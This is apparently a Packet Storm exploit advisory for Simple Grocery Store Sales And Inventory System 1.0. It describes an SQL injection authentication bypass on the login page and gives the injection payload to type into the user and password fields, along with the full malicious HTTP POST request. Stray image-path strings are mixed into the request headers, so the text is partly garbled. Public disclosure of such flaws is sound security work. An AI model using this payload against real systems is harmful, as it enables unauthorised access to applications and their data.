Simple Grocery Store Sales And Inventory System 1.0 SQL Injection

Type packetstorm
Reporter Saurav Shukla
Modified 2020-10-15T00:00:00


                                            `# Exploit Title: Simple Grocery Store Sales And Inventory System 1.0 - Authentication Bypass
# Date: 24/09/2020
# Exploit Author: Saurav Shukla & Jyotsna Adhana
# Vendor Homepage:
# Software Link:
# Version: 1.0
# Tested On: Windows 10 Pro 10.0.18363 N/A Build 18363 + XAMPP V3.2.4
Step 1: Open the URL http://localhost/sales_inventory/login.php
Step 2: use payload jyot' or 1=1# in user and password field
Malicious Request:::
POST /sales_inventory/ajax.php?action=login HTTP/1.1
Host: localhost
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:80.0) Gecko/20100101 Firefox/80.0
Accept: */*
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Content-Type: application/x-www-form-urlencoded; charset=UTF-8
X-Requested-With: XMLHttpRequest
Content-Length: 53Origin: http://localhost
Connection: close
Referer:http://localhost/sales_inventory/login.php
Cookie:PHPSESSID=hdk9npcmq341ulcsn8cj6oefov